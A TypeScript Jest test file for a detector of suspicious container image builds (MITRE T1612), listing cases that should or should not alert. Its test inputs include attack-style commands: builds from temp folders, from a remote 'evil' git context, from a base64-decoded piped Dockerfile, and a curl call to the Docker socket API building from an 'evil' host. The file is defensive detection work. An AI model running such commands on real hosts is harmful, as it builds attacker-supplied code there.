/**
 * Every row of docs/seed.md §6.2 (false negatives of the seed) and §6.3 (false positives / over-scoring),
 * scored by the model. Expected outcomes are written by hand from the rules in docs/detection.md.
 */
import { detect, ModelEvent, SIGNALS } from '../../src/detection/model';

const ev = (process: string, extra: Partial<ModelEvent> = {}): ModelEvent => ({
  t1612_source: 'test',
  event_kind: 'process',
  process,
  ...extra,
});
const HOME = { process_current_directory: '/home/alice/web' };

describe('§6.2 false negatives of the seed are found', () => {
  it.each([
    ['docker -H tcp://127.0.0.1:2375 build -t x /tmp/x', {}, ['from_temp']],
    ['docker --context remote build -t x /tmp/x', {}, ['from_temp']],
    ['docker --log-level debug build -t x /tmp/x', {}, ['from_temp']],
    ['docker -D build -t x /tmp/x', {}, ['from_temp']],
    [
      '"C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe"  build -t x C:\\Users\\u\\AppData\\Local\\Temp\\x',
      {},
      ['from_temp'],
    ],
    ['podman build -t x /tmp/x', {}, ['from_temp']],
    ['buildah bud -t x /tmp/x', {}, ['from_temp']],
    ['nerdctl build -t x /tmp/x', {}, ['from_temp']],
    ['docker compose build', { process_current_directory: '/tmp/x' }, ['from_temp']],
    ['/kaniko/executor --context=dir:///tmp/x --destination=r/x', {}, ['from_temp']],
    ['buildctl build --frontend dockerfile.v0 --local context=/tmp/x --local dockerfile=/tmp/x', {}, ['from_temp']],
    ['docker build .', { process_current_directory: '/tmp/x' }, ['from_temp']],
    ["sh -c 'cd /tmp/x && docker build .'", HOME, ['from_temp']],
    ["sh -c 'docker build -t x - < /tmp/x/Dockerfile'", HOME, ['from_temp', 'stdin_dockerfile']],
    ["sh -c 'base64 -d /home/alice/p.b64 | docker build -'", HOME, ['suspicious_parent', 'stdin_dockerfile']],
    ['docker build -t x https://github.com/evil/r.git#main', HOME, ['external_file']],
    ['docker build -t x http://10.1.2.3/ctx.tar', HOME, ['external_file']],
    ['docker build --file https://x/Dockerfile .', HOME, ['external_file']],
    ['docker build -f=https://x/Dockerfile .', HOME, ['external_file']],
    [
      'curl --unix-socket /var/run/docker.sock -X POST "http://localhost/v1.41/build?t=x&remote=https://evil/r.git"',
      {},
      ['external_file', 'api_build'],
    ],
    ['docker.exe build -t x C:\\Users\\u\\AppData\\Local\\Temp\\x', {}, ['from_temp']],
  ])('%s → alerts with %j', (line, extra, signals) => {
    const d = detect(ev(line, extra));
    expect(d.t1612_activity).not.toBe('none');
    const fired = SIGNALS.filter((s) => d[s] === 1);
    expect(fired).toEqual(signals);
    expect(d.risk_score).toBeGreaterThanOrEqual(2);
    expect(d.alert_detail).toBeDefined();
  });
});

describe('§6.3 false positives of the seed do not alert (or score only what is real)', () => {
  it.each([
    ['typed in bash', { parent_process: 'bash', parent_process_name: 'bash' }],
    ['typed in a login bash', { parent_process: '-bash' }],
    ['typed in zsh', { parent_process: 'zsh', parent_process_name: 'zsh' }],
    ['typed in fish', { parent_process: 'fish', parent_process_name: 'fish' }],
    ['via sshd', { parent_process: 'sshd: alice@pts/0', parent_process_name: 'sshd' }],
    ['from a git push hook', { parent_process: 'git push origin main', parent_process_name: 'git' }],
    ['from make publish', { parent_process: 'make publish', parent_process_name: 'make' }],
    [
      'from interactive PowerShell',
      {
        parent_process: 'powershell.exe',
        parent_process_name: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      },
    ],
    [
      'from containerd-shim',
      {
        parent_process: '/usr/bin/containerd-shim-runc-v2 -namespace moby',
        parent_process_name: 'containerd-shim-runc-v2',
      },
    ],
    ['parent under /usr/share', { parent_process: '/usr/share/code/code', parent_process_name: 'code' }],
  ])('docker build -t web:1.4 . %s', (_, extra) => {
    const d = detect(ev('docker build -t web:1.4 .', { ...HOME, ...extra }));
    expect(d.t1612_activity).toBe('build');
    expect(d.risk_score).toBe(0);
    expect(d.alert_detail).toBeUndefined();
  });

  it('the ART T1612 command run by its sh executor: an ordinary scripted build (hint only) — no temp/remote signal', () => {
    const d = detect(
      ev('docker build -t t1612 /root/AtomicRedTeam/atomics/T1612/src/', {
        parent_process: 'sh -c docker build -t t1612 /root/AtomicRedTeam/atomics/T1612/src/',
      }),
    );
    expect([d.from_temp, d.external_file, d.suspicious_parent, d.risk_score]).toEqual([0, 0, 0, 0]);
  });

  it('GitHub build-push-action: --iidfile in /tmp does not count; the git context in the runner workspace is a hint', () => {
    const d = detect(
      ev(
        'docker buildx build --iidfile /tmp/docker-actions-toolkit-AbC/iidfile --tag o/r:sha https://github.com/o/r.git#abc123',
        { process_current_directory: '/home/runner/work/r/r' },
      ),
    );
    expect([d.from_temp, d.external_file]).toEqual([0, 0]);
    expect(d.t1612_reasons).toEqual([]);
    expect(d.t1612_hints).toContain(
      'git context in CI (not scored): remote context: https://github.com/o/r.git#abc123',
    );
  });

  it('--cache-to /tmp … --no-cache . scores only the no-cache (1), below the threshold', () => {
    const d = detect(
      ev('docker buildx build --cache-to type=local,dest=/tmp/.buildx-cache-new --no-cache -t app .', {
        process_current_directory: '/srv/app',
      }),
    );
    expect([d.from_temp, d.no_cache, d.risk_score]).toEqual([0, 1, 1]);
    expect(d.alert_detail).toBeUndefined();
  });

  it.each([
    ['docker buildx build --secret id=npm,src=/run/user/1000/npmrc -t app .'],
    ['docker buildx build --output type=local,dest=/tmp/out -t app .'],
    ['docker -H unix:///run/user/1000/docker.sock build -t app .'],
    ['docker buildx build --metadata-file /tmp/meta.json -t app .'],
  ])('other path options in temp folders do not count: %s', (line) => {
    const d = detect(ev(line, { process_current_directory: '/srv/app', parent_process: 'bash' }));
    expect(d.risk_score).toBe(0);
  });

  it.each([
    ['grep -rn "docker build" /tmp/ci-scripts/'],
    ['docker builder prune -af'],
    ['docker buildx ls'],
    ['docker buildx create --use'],
    ['docker buildx rm builder'],
  ])('%s from bash is not a build at all', (line) => {
    const d = detect(ev(line, { process_current_directory: '/tmp', parent_process: 'bash' }));
    expect(d.t1612_activity).toBe('none');
    expect(d.risk_score).toBe(0);
  });

  it('sudo docker build: sudo and its docker child are each one build (the child is not double-counted by substring)', () => {
    const sudo = detect(ev('sudo docker build -t x .', { ...HOME, parent_process: 'bash' }));
    const child = detect(
      ev('docker build -t x .', { ...HOME, parent_process: 'sudo docker build -t x .', parent_process_name: 'sudo' }),
    );
    expect([sudo.t1612_activity, sudo.risk_score, child.t1612_activity, child.risk_score]).toEqual([
      'build',
      0,
      'build',
      0,
    ]);
  });

  it('the buildx plugin child (docker-buildx buildx build …) is recognised; its docker parent is not suspicious', () => {
    const d = detect(
      ev('/usr/libexec/docker/cli-plugins/docker-buildx buildx build -t x .', {
        ...HOME,
        parent_process: 'docker buildx build -t x .',
        parent_process_name: 'docker',
      }),
    );
    expect([d.t1612_activity, d.risk_score]).toEqual(['build', 0]);
  });

  it('--no-cache alone is +1: below the threshold', () => {
    const d = detect(ev('docker build --no-cache -t x .', HOME));
    expect([d.no_cache, d.risk_score, d.alert_detail]).toEqual([1, 1, undefined]);
  });
});
